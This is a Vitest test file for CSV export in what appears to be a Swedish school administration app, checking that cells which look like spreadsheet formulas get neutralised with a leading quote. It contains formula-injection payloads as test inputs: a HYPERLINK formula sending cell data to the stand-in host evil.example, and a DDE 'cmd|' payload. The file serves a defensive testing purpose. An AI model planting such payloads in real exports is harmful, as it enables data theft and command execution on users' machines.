import { describe, expect, it } from 'vitest';
import { guardianListTemplate } from './administration/guardian-list.ts';
import { buildCsv, csvCell, neutraliseCsvText } from './csv.ts';

describe('neutraliseCsvText', () => {
  it('puts a single quote before text a spreadsheet would take for a formula', () => {
    expect(neutraliseCsvText('=HYPERLINK("https://evil.example/?"&A1;"Klicka")')).toBe(
      '\'=HYPERLINK("https://evil.example/?"&A1;"Klicka")',
    );
    expect(neutraliseCsvText('+46701234567')).toBe("'+46701234567");
    expect(neutraliseCsvText("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(neutraliseCsvText('@SUM(1+1)')).toBe("'@SUM(1+1)");
    expect(neutraliseCsvText('\t=1+1')).toBe("'\t=1+1");
    expect(neutraliseCsvText('\rx')).toBe("'\rx");
    expect(neutraliseCsvText('\tx')).toBe("'\tx");
    expect(neutraliseCsvText('  =1+1')).toBe("'  =1+1");
    expect(neutraliseCsvText('\n@x')).toBe("'\n@x");
  });

  it('leaves other text as it is, a formula character inside it too', () => {
    for (const text of ['Åkesson, Åke', '7A', 'Anna-Karin', 'a=b', 'e-post: a@b.se', '', ' ', "'=redan neutraliserad", '19121212-1212']) {
      expect(neutraliseCsvText(text)).toBe(text);
    }
  });
});

describe('csvCell and buildCsv', () => {
  it('neutralises text but writes numbers as numbers, negative ones too', () => {
    expect(csvCell('-5')).toBe('"\'-5"');
    expect(csvCell(-5)).toBe('"-5"');
    expect(csvCell(-3.46)).toBe('"-3,5"');
    expect(csvCell(null)).toBe('""');
  });

  it('neutralises the header and every row, quotes doubled after the quote is added', () => {
    const csv = buildCsv(
      ['=Elev', 'Frånvaro'],
      [
        ['=HYPERLINK("https://evil.example";"Klicka"), Ella', -1.5],
        ['Ek, Åsa', 3],
      ],
    );
    expect(csv).toBe('\uFEFF"\'=Elev";"Frånvaro"\r\n"\'=HYPERLINK(""https://evil.example"";""Klicka""), Ella";"-1,5"\r\n"Ek, Åsa";"3"\r\n');
  });

  it('leaves the import templates as the lists are read', () => {
    expect(guardianListTemplate().split('\r\n')[1]).toContain('070-123 45 67');
    expect(guardianListTemplate()).not.toContain("'");
  });
});
